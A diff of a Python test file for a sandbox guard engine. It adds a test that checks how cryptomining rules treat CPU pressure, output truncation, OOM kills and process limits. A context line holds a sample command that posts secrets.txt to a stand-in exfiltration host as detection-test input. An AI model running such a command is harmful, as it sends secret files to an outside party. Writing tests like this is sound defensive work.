@@ -278,3 +278,21 @@ def test_profile_rules_can_use_egress_denied() -> None:
     # Only URLs with a scheme are compared: a bare host names no target, so no verdict.
     assert "custom.httpie-upload" not in fired(
         CommandText("http POST exfil.test/x < secrets.txt"), engine)
+
+
+def test_cpu_pressure_is_a_flag_even_in_strict_but_an_oom_kill_is_not() -> None:
+    """strict raises the mining pack to kill; busy CPUs and a cut output (what builds do)
+    stay a flag (`mining.resource_pressure`), an OOM kill or a fork bomb is the pack's."""
+    from sandbox.guard import build_engine
+    from sandbox.guard.evidence import ResourceSample
+    from sandbox.profile import load
+
+    engine = build_engine(load("strict").guard)
+    verdicts = {reason: [(v.rule_id, v.action) for v in engine.evaluate(
+        ResourceSample(source="resource.breach", limit="cpu", reason=reason))]
+        for reason in ("cpu_saturated", "cpu_throttled", "output_truncated", "oom_kill",
+                       "pids_max")}
+    for reason in ("cpu_saturated", "cpu_throttled", "output_truncated"):
+        assert verdicts[reason] == [("mining.resource_pressure", "flag")], verdicts
+    for reason in ("oom_kill", "pids_max"):
+        assert ("mining.resource_limit", "kill") in verdicts[reason], verdicts
